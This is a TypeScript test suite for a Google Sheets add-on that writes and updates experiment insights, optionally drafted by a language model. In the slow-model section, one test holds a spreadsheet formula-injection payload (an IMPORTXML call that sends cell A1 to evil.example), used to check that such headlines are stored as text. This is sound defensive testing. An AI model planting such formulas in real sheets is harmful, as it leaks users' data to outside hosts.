import { afterEach, describe, expect, it } from 'vitest';
import { readStoredJson } from '../../apps-script/src/server/stored-json';
import { sampleSpreadsheet } from '../../preview/src/server/sample-spreadsheet';
import sheetsManifest from '../../sheets-addon/appsscript.json';
import { findInsights, analyzeResultsTable } from '../../shared/src/experiments';
import { writeInsights } from '../../sheets-addon/src/server/insights';
import { installGlobals, sampleTracker as sample, steppingClock } from './harness';

let uninstall: (() => void) | null = null;
afterEach(() => {
  uninstall?.();
  uninstall = null;
});

describe('writing insights', () => {
  it('writes one narrative per anomaly, each linked to its Results rows', () => {
    const t = sample();
    const { value: report, calls, byName } = t.measured('writeInsights');
    // Settings, Results, Insights and Experiments read once each; the new rows written once.
    expect(byName['Range.getValues']).toBe(4);
    expect(byName['Range.setValues']).toBe(1);
    expect(calls).toBeLessThanOrEqual(14);
    const rows = t.records('Insights');
    expect(report).toMatchObject({ status: 'done', processed: rows.length });
    const kinds = rows.map((row) => row.Kind);
    expect(kinds).toContain('winner');
    expect(kinds).toContain('srm');
    expect(kinds).toContain('falling-segment');
    expect(kinds).toContain('overdue');
    const srm = rows.find((row) => row.Kind === 'srm')!;
    expect(srm.Experiment).toBe('Churn audiences');
    expect(String(srm.Narrative)).toContain('(Source: rows 10 and 11.)');
    const gid = t.sheet('Results').sheetId;
    const insights = t.sheet('Insights');
    const linkColumn = insights.snapshot()[0]!.indexOf('Rows') + 1;
    const srmRow = rows.indexOf(srm) + 2;
    expect(insights.formulaAt(srmRow, linkColumn)).toMatch(new RegExp(`^=HYPERLINK\\("#gid=${gid}&range=A10:[A-Z]+11","rows 10 and 11"\\)$`));
    expect(srm.Rows).toBe('rows 10 and 11');
    expect(rows.every((row) => row.Review === 'needs review' && String(row['Written by']).startsWith('Onbrand offline'))).toBe(true);
  });

  it('adds only new insights when run again, keeping what people wrote in the sheet', () => {
    const t = sample();
    t.call('writeInsights');
    const insights = t.sheet('Insights');
    const review = insights.snapshot()[0]!.indexOf('Review') + 1;
    insights.write(2, review, [['approved']]);
    const before = insights.snapshot();
    const again = t.call('writeInsights');
    expect(again).toMatchObject({ processed: 0, message: expect.stringContaining(`already in the sheet`) });
    expect(insights.snapshot()).toEqual(before);
  });

  it('writes one insight per finding, naming its experiment, metric and segment', () => {
    const t = sample();
    t.call('writeInsights');
    const rows = t.records('Insights');
    // Four weeks of the same winner are one finding over the whole run.
    const winners = rows.filter((row) => row.Kind === 'winner');
    expect(winners.map((row) => row.Headline)).toEqual(['Subject lines: B beats control on click rate by +22.0% for all visitors']);
    expect(String(winners[0]!.Narrative)).toMatch(/^In Subject lines over week 1 to week 4 \(4 periods\), B's click rate for all visitors is 22\.0% higher than control's/);
    expect(new Set(rows.map((row) => row.Id)).size).toBe(rows.length);
    for (const row of rows) expect(String(row.Headline)).toMatch(new RegExp(`^${row.Experiment}: .*(click rate|retention|reply rate)`));
    expect(rows.map((row) => row.Headline)).toContain("Subject lines: control's click rate for all visitors fell for 3 periods in a row");
  });

  it('updates a finding in place when a new week moves its figures, sending an approved one back to review', () => {
    const t = sample();
    t.call('writeInsights');
    const insights = t.sheet('Insights');
    const before = t.records('Insights');
    const winnerAt = before.findIndex((row) => row.Kind === 'winner');
    const review = insights.snapshot()[0]!.indexOf('Review') + 1;
    insights.write(winnerAt + 2, review, [['approved']]);
    const results = t.sheet('Results');
    const next = results.snapshot().filter((row) => row[0] !== '').length + 1;
    results.write(next, 1, [['Subject lines', 'control', 'week 5', 'all', 12000, 468], ['Subject lines', 'B', 'week 5', 'all', 12000, 580]]);
    const report = t.call('writeInsights');
    expect(report.message).toMatch(/^Updated 3 insights whose figures moved on \(\d+ already in the sheet\)\.$/);
    const after = t.records('Insights');
    expect(after.map((row) => row.Id)).toEqual(before.map((row) => row.Id));
    const winner = after[winnerAt]!;
    expect(String(winner.Narrative)).toMatch(/over week 1 to week 5 \(5 periods\)/);
    expect(winner.Rows).toBe('rows 2, 3, 4, 5, 6, 7, 8, 9, 14 and 15');
    expect(insights.formulaAt(winnerAt + 2, insights.snapshot()[0]!.indexOf('Rows') + 1)).toMatch(/^=HYPERLINK\("#gid=\d+&range=A2:[A-Z]+15","rows 2, 3/);
    expect(winner.Review).toBe('needs review');
    // A finding that did not move keeps its row, link and review as they were.
    const srmAt = after.findIndex((row) => row.Kind === 'srm');
    expect(after[srmAt]).toEqual(before[srmAt]);
    expect(insights.formulaAt(srmAt + 2, insights.snapshot()[0]!.indexOf('Rows') + 1)).toMatch(/^=HYPERLINK/);
  });

  it('pauses before the time limit, saves where it was, and resumes to the same result', () => {
    const whole = sample();
    whole.call('writeInsights');
    const expected = whole.records('Insights').map((row) => row.Id);

    const t = sample();
    uninstall = installGlobals(t.env);
    const spreadsheet = t.env.spreadsheet as unknown as GoogleAppsScript.Spreadsheet.Spreadsheet;
    // Each reading of the clock costs a minute: the 4.5-minute budget runs out after a few insights.
    const first = writeInsights(spreadsheet, { clock: steppingClock(Date.parse('2026-11-23T10:00:00Z'), 60_000), model: null, kit: null, user: 'maya@example.com' });
    expect(first.status).toBe('paused');
    expect(first.processed).toBeGreaterThan(0);
    expect(first.processed).toBeLessThan(expected.length);
    const saved = readStoredJson(t.env.properties.document as never, 'onbrand.continue.insights');
    expect(saved).toMatchObject({ done: first.processed, total: expected.length });

    let report = first;
    for (let runs = 0; report.status === 'paused' && runs < 10; runs++) {
      report = writeInsights(spreadsheet, { clock: steppingClock(Date.parse('2026-11-23T10:00:00Z'), 60_000), model: null, kit: null, user: 'maya@example.com' });
    }
    expect(report.status).toBe('done');
    expect(t.records('Insights').map((row) => row.Id)).toEqual(expected);
    expect(readStoredJson(t.env.properties.document as never, 'onbrand.continue.insights')).toBeNull();
  });

  it('finds the same anomalies as the core on the same rows', () => {
    const t = sample();
    t.call('writeInsights');
    const rows = sampleSpreadsheet.sheets.Results!.slice(1);
    const core = findInsights(analyzeResultsTable(rows), { now: new Date().toISOString(), plans: { 'Insight digest': { endDate: '2026-10-15' } } });
    const winners = core.filter((insight) => insight.kind === 'winner').length;
    expect(t.records('Insights').filter((row) => row.Kind === 'winner')).toHaveLength(winners);
  });

  it('has a language model write the narratives when a key is saved, marked as AI drafts and audited', () => {
    const t = sample();
    t.call('saveSettings', { provider: 'openai', model: 'gpt-test', apiKey: 'sk-test-secret-123456' });
    t.env.urlFetch.handler = (request) => {
      expect(request.url).toBe('https://api.openai.com/v1/chat/completions');
      expect(request.headers.authorization ?? request.headers.Authorization).toBe('Bearer sk-test-secret-123456');
      const answer = { headline: 'Model headline', narrative: 'The model explains it.', nextSteps: ['Check guardrails'] };
      return { status: 200, body: JSON.stringify({ choices: [{ message: { content: JSON.stringify(answer) } }] }) };
    };
    t.call('writeInsights');
    const rows = t.records('Insights');
    expect(rows[0]).toMatchObject({ Headline: 'Model headline', 'Written by': 'AI draft: openai gpt-test', Review: 'needs review' });
    expect(String(rows[0]!.Narrative)).toMatch(/^The model explains it\. Next: Check guardrails\. \(Source: rows \d+(, \d+)* and \d+\.\)$/);
    const audit = t.records('Audit log');
    expect(audit).toHaveLength(rows.length);
    expect(audit[0]).toMatchObject({ who: 'maya@example.com', surface: 'sheets', action: 'generated', templateId: 'experiment-insight', templateVersion: '1.0.0', provider: 'openai', model: 'gpt-test', subject: `${rows[0]!.Id}: Model headline` });
    const everything = JSON.stringify(t.env.spreadsheet.sheets.map((sheet) => sheet.snapshot()));
    expect(everything).not.toContain('sk-test-secret');
    expect(t.call('getSettings').apiKeyMasked).toBe('••••3456');
  });

  it('says so when the team chose a provider but this user saved no key', () => {
    const t = sample();
    t.call('saveSettings', { provider: 'gemini' });
    t.call('writeInsights');
    expect(t.records('Insights')[0]!['Written by']).toBe('Onbrand offline (no gemini key saved for you)');
    expect(t.env.urlFetch.requests).toHaveLength(0);
  });

  it('sends an openai-compatible provider to the team’s own model server, once its manifest lists it', () => {
    const t = sample({ ...sheetsManifest, urlFetchWhitelist: [...sheetsManifest.urlFetchWhitelist, 'https://models.example.com/'] });
    t.call('saveSettings', { provider: 'openai-compatible', model: 'local-llm', baseUrl: 'https://models.example.com/v1/', apiKey: 'local-key-0000' });
    t.env.urlFetch.handler = () => ({ status: 200, body: JSON.stringify({ choices: [{ message: { content: JSON.stringify({ headline: 'From our server', narrative: 'Explained.', nextSteps: [] }) } }] }) });
    t.call('writeInsights');
    expect(t.env.urlFetch.requests.map((request) => request.url)).toContain('https://models.example.com/v1/chat/completions');
    expect(t.records('Insights')[0]).toMatchObject({ Headline: 'From our server', 'Written by': 'AI draft: openai-compatible local-llm' });
  });

  it('writes offline, saying why, when an openai-compatible provider has no server URL', () => {
    const t = sample();
    t.call('saveSettings', { provider: 'openai-compatible', apiKey: 'local-key-0000' });
    t.call('writeInsights');
    expect(t.records('Insights')[0]!['Written by']).toBe('Onbrand offline (no model server URL in Settings)');
    expect(t.env.urlFetch.requests).toHaveLength(0);
  });

  it('falls back to the offline narrative, saying why, when the provider fails', () => {
    const t = sample();
    t.call('saveSettings', { provider: 'anthropic', apiKey: 'sk-ant-000000000' });
    t.env.urlFetch.handler = () => ({ status: 401, body: '{"error":{"message":"bad key"}}' });
    t.call('writeInsights');
    const row = t.records('Insights')[0]!;
    expect(String(row['Written by'])).toMatch(/^Onbrand offline \(anthropic failed: Anthropic refused the API key \(HTTP 401\)/);
    expect(String(row.Narrative)).toContain('(Source: rows');
  });
});

describe('appending insights to a full sheet', () => {
  it('adds rows to the sheet first, as Sheets refuses writes past the last row', () => {
    const t = sample();
    const insights = t.sheet('Insights');
    const filler = Array.from({ length: 998 }, (_, i) => [`old-${i}`, '', 'note', '', `Old insight ${i}`]);
    insights.write(2, 1, filler);
    expect(insights.maxRows()).toBe(1000);
    const report = t.call('writeInsights');
    expect(report.processed).toBeGreaterThan(1);
    expect(insights.maxRows()).toBe(999 + report.processed);
    expect(t.records('Insights')[998]!.Kind).toBe('winner');
  });
});

describe('writing insights with a slow model', () => {
  const answer = (headline: string) => ({ status: 200, body: JSON.stringify({ choices: [{ message: { content: JSON.stringify({ headline, narrative: 'Explained.', nextSteps: [] }) } }] }) });

  function withModel() {
    const t = sample();
    t.call('saveSettings', { provider: 'openai', model: 'gpt-test', apiKey: 'sk-test-secret-123456' });
    return t;
  }

  it('holds the document lock only to write, never while the model writes', () => {
    const t = withModel();
    const heldDuringCalls: boolean[] = [];
    t.env.urlFetch.handler = () => {
      heldDuringCalls.push(t.env.lock.documentLock.held);
      return answer('Model headline');
    };
    t.call('writeInsights');
    expect(heldDuringCalls.length).toBeGreaterThan(1);
    expect(heldDuringCalls.every((held) => !held)).toBe(true);
    expect(t.env.lock.documentLock.held).toBe(false);
  });

  it('keeps every insight it finished when Apps Script stops the run at 6 minutes', () => {
    const t = withModel();
    let answered = 0;
    t.env.urlFetch.handler = () => answer(`Model headline ${++answered}`);
    // Each answer takes 200 s of the run's 360: the second call is cut off by the time limit.
    t.env.urlFetch.latencyMs = 200_000;
    expect(() => t.script.run('writeInsights', [{}])).toThrow('Exceeded maximum execution time');
    const written = t.records('Insights').filter((row) => row.Id !== '');
    expect(written.map((row) => row.Headline)).toEqual(['Model headline 1']);
    expect(t.records('Audit log').map((row) => row.subject)).toEqual(written.map((row) => `${row.Id}: ${row.Headline}`));
    expect(t.env.lock.documentLock.held).toBe(false);

    // The next run goes on from there, without writing the kept ones again.
    t.env.urlFetch.latencyMs = 1_000;
    t.call('writeInsights');
    const all = t.records('Insights').map((row) => row.Id);
    expect(new Set(all).size).toBe(all.length);
    expect(all.length).toBeGreaterThan(1);
    expect(all[0]).toBe(written[0]!.Id);
  });

  it('stops asking the model when too little time is left, and says it paused', () => {
    const t = withModel();
    t.env.urlFetch.handler = () => answer('Model headline');
    t.env.urlFetch.latencyMs = 100_000;
    const report = t.call('writeInsights');
    expect(report.status).toBe('paused');
    expect(t.records('Insights').filter((row) => row.Id !== '')).toHaveLength(report.processed);
    expect(report.processed).toBeGreaterThan(0);
  });

  it('writes a model’s headline that looks like a formula as text', () => {
    const t = withModel();
    const payload = '=IMPORTXML("https://evil.example/?q="&A1,"//a")';
    t.env.urlFetch.handler = () => answer(payload);
    t.call('writeInsights');
    const insights = t.sheet('Insights');
    const headline = insights.snapshot()[0]!.indexOf('Headline') + 1;
    expect(t.records('Insights')[0]!.Headline).toBe(payload);
    expect(insights.formulaAt(2, headline)).toBe('');
    // The add-on's own link to the Results rows is still a formula.
    expect(insights.formulaAt(2, insights.snapshot()[0]!.indexOf('Rows') + 1)).toMatch(/^=HYPERLINK\(/);
  });
});

